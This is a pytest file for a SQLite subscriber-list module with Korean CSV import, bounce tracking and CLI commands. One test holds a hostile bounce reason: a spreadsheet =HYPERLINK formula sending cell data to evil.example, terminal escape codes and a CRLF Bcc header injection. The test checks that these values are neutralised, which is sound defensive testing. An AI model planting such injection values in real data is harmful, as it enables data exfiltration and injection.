"""The subscriber list in SQLite: imports from Korean Excel, statuses that stick, the commands around it."""

from __future__ import annotations

import csv
import datetime as dt
import io
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from issuepdf.cli import main
from issuepdf.content.errors import SubscriberError
from issuepdf.content.settings import SubscriberSettings
from issuepdf.mail import subscribers as subscribers_module
from issuepdf.mail.subscribers import open_list

from .support.projects import make_project

RULES = SubscriberSettings()
"""The defaults: bounced at the third temporary failure in a row, the count starting again after 30 quiet days."""

LIST = """\
이름,이메일
김민수,minsu@example.org
박지영,지영 <JiYoung@Example.org>
이서연,seoyeon@@example.org
최민준,MINSU@example.org
,
정,jung@localhost
한국,hong@한국.kr
"""


def run(*args: str | Path) -> Result:
    return CliRunner().invoke(main, [str(arg) for arg in args])


@pytest.mark.parametrize(
    ("encoding", "note"), [("utf-8-sig", ""), ("utf-8", ""), ("cp949", " (read as CP949, Korean Excel's CSV)")]
)
def test_import_reads_korean_excel_merges_case_and_reports_every_invalid_line(
    tmp_path: Path, encoding: str, note: str
) -> None:
    source = tmp_path / "구독자.csv"
    source.write_bytes(LIST.encode(encoding))
    with open_list(tmp_path / "list.sqlite") as subscribers:
        imported = subscribers.import_csv(source)
        assert subscribers.active() == ["minsu@example.org", "JiYoung@example.org", "hong@xn--3e0b707e.kr"]
        again = subscribers.import_csv(source)
    lines = imported.lines()
    counts = "3 added, 0 already subscribed, 0 not re-subscribed, 2 invalid, 1 duplicate(s)"
    assert lines[0] == f"{source}{note}: {counts}"
    assert lines[1:] == [
        f"{source}:4: invalid: 'seoyeon@@example.org': not an email address",
        f"{source}:7: invalid: 'jung@localhost': The part after the @-sign is not valid. It should have a period.",
    ]
    assert (again.added, again.already) == ([], 3)


def test_statuses_stick_with_when_and_why_and_only_an_explicit_resubscribe_lifts_them(tmp_path: Path) -> None:
    source = tmp_path / "list.csv"
    source.write_text("email\na@example.org\nb@example.org\nc@example.org\nd@example.org\n", encoding="utf-8")
    with open_list(tmp_path / "list.sqlite") as subscribers:
        subscribers.import_csv(source)
        subscribers.set_status("a@example.org", "unsubscribed", "one-click unsubscribe (web)")
        subscribers.set_status("B@example.org", "bounced", "550 5.1.1 user unknown")
        subscribers.set_status("c@example.org", "complained", "feedback report")
        assert subscribers.set_status("b@example.org", "unsubscribed", "mail").status == "bounced"  # keeps the worse
        for message in ("m1", "m2"):
            assert subscribers.soft_bounce("d@example.org", "452 mailbox full", RULES, message).status == "active"
        third = subscribers.soft_bounce("d@example.org", "452 mailbox full", RULES, "m3")
        assert (third.status, third.reason) == ("bounced", "3 temporary failures in a row, last: 452 mailbox full")
        unknown = subscribers.set_status("new@example.org", "unsubscribed", "mail to the list")
        assert unknown.status == "unsubscribed"  # remembered, so that no import subscribes it
        later = subscribers.import_csv(source)
        assert [s.address for s in later.kept_out] == [
            "a@example.org",
            "b@example.org",
            "c@example.org",
            "d@example.org",
        ]
        assert subscribers.active() == []
        with pytest.raises(SubscriberError, match=r"a@example.org is unsubscribed since .* add --resubscribe"):
            subscribers.add("a@example.org", "added by hand")
        assert subscribers.add("A@example.org", "asked again", resubscribe=True).reason == "re-subscribed: asked again"
        assert subscribers.active() == ["a@example.org"]
        row = subscribers.get("b@example.org")
        assert row is not None and row.changed.endswith("+00:00") and row.reason == "550 5.1.1 user unknown"
        exported = list(csv.reader(io.StringIO(subscribers.export().lstrip("\ufeff"))))
    assert exported[0] == ["email", "status", "changed", "reason", "added", "soft_bounces"]
    assert [(r[0], r[1]) for r in exported[1:]] == [
        ("a@example.org", "active"),
        ("b@example.org", "bounced"),
        ("c@example.org", "complained"),
        ("d@example.org", "bounced"),
        ("new@example.org", "unsubscribed"),
    ]
    with sqlite3.connect(tmp_path / "list.sqlite") as db:  # a plain SQLite file any tool can read
        assert db.execute("SELECT count(*) FROM subscribers").fetchone() == (5,)


def test_subscriber_commands(tmp_path: Path) -> None:
    project = make_project(tmp_path / "p", "subscribers:\n  path: private/list.sqlite\n")
    source = tmp_path / "list.csv"
    source.write_bytes("이메일\nkim@example.org\nlee@example.org\nbroken@\n".encode("cp949"))
    imported = run("subscribers", "import", source, "--project", project)
    assert imported.exit_code == 0, imported.output
    assert imported.stdout.splitlines() == [
        f"{source} (read as CP949, Korean Excel's CSV): 2 added, 0 already subscribed, 0 not re-subscribed, "
        "1 invalid, 0 duplicate(s)",
        f"{source}:4: invalid: 'broken@': not an email address",
    ]
    assert (project / "private" / "list.sqlite").is_file()
    assert (project / "private" / ".gitignore").read_text().endswith("*\n")  # people's addresses stay out of git
    assert run("subscribers", "add", "park@example.org", "--project", project).stdout.startswith(
        "park@example.org: active (added by hand)"
    )
    assert (
        "lee@example.org: unsubscribed since "
        in run("subscribers", "unsubscribe", "LEE@example.org", "--project", project).stdout
    )
    refused = run("subscribers", "add", "lee@example.org", "--project", project)
    assert refused.exit_code == 1 and "add --resubscribe if the reader asked" in refused.output
    assert run("subscribers", "remove", "kim@example.org", "--project", project).stdout == "removed kim@example.org\n"
    missing = run("subscribers", "remove", "kim@example.org", "--project", project)
    assert missing.exit_code == 1 and "error: kim@example.org is not on the list" in missing.output
    listed = run("subscribers", "list", "--status", "unsubscribed", "--project", project).stdout.splitlines()
    assert listed[0].startswith("lee@example.org\tunsubscribed\t") and listed[0].endswith("\tunsubscribed by hand")
    assert listed[-1] == "1 active, 1 unsubscribed, 0 bounced, 0 complained"
    out = tmp_path / "export.csv"
    assert run("subscribers", "export", "-o", out, "--project", project).exit_code == 0
    assert out.read_bytes().startswith("\ufeffemail,status".encode())
    bad = run("subscribers", "add", "not an address", "--project", project)
    assert bad.exit_code == 1 and "error: 'not an address': An email address must have an @-sign." in bad.output


def test_a_hostile_bounce_reason_is_one_short_line_and_exports_as_text(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")\x1b[2J\x1b]0;owned\x07\r\nBcc: x' + " 아주" * 400
    with open_list(tmp_path / "list.sqlite") as subscribers:
        row = subscribers.set_status("kim@example.org", "bounced", hostile)
        exported = list(csv.reader(io.StringIO(subscribers.export().lstrip("\ufeff"))))
    assert row.reason.startswith('=HYPERLINK("https://evil.example/?"&A1,"click") [2J ]0;owned Bcc: x 아주')
    assert row.reason.isprintable() and len(row.reason) == 300 and row.reason.endswith("…")
    assert exported[1][3] == "'" + row.reason  # a spreadsheet shows it, never evaluates it


def test_soft_bounces_count_once_per_message_and_only_in_a_row(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    start = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    today = [start]
    monkeypatch.setattr(subscribers_module, "now", lambda: today[0].isoformat(timespec="seconds"))
    with open_list(tmp_path / "list.sqlite") as subscribers:
        subscribers.add("full@example.org", "test")
        counts = []
        # day 0: message a and the notice of its retry; b a week later; c after 43 quiet days; d and e weekly
        for day, message in ((0, "a"), (0, "a"), (7, "b"), (50, "c"), (57, "d"), (64, "e")):
            today[0] = start + dt.timedelta(days=day)
            found = subscribers.soft_bounce("full@example.org", "452 mailbox full", RULES, message)
            assert found is not None
            counts.append((found.soft_bounces, found.status))
    assert counts == [(1, "active"), (1, "active"), (2, "active"), (1, "active"), (2, "active"), (3, "bounced")]


def test_a_list_made_before_soft_bounces_were_dated_opens_and_counts(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite"
    with sqlite3.connect(path) as db:  # the table as issuepdf made it before soft_last and soft_message
        db.execute(
            "CREATE TABLE subscribers (key TEXT PRIMARY KEY, address TEXT NOT NULL, status TEXT NOT NULL, changed TEXT"
            " NOT NULL, reason TEXT NOT NULL, added TEXT NOT NULL, soft_bounces INTEGER NOT NULL DEFAULT 0)"
        )
        db.execute("INSERT INTO subscribers VALUES ('a@example.org', 'a@example.org', 'active', 't', 'r', 't', 2)")
    db.close()
    with open_list(path) as subscribers:
        found = subscribers.soft_bounce("a@example.org", "452 mailbox full", RULES, "m")
        assert found is not None and (found.soft_bounces, found.status) == (1, "active")  # no date: a fresh count
        subscribers.add("b@example.org", "test")
        assert subscribers.active() == ["a@example.org", "b@example.org"]
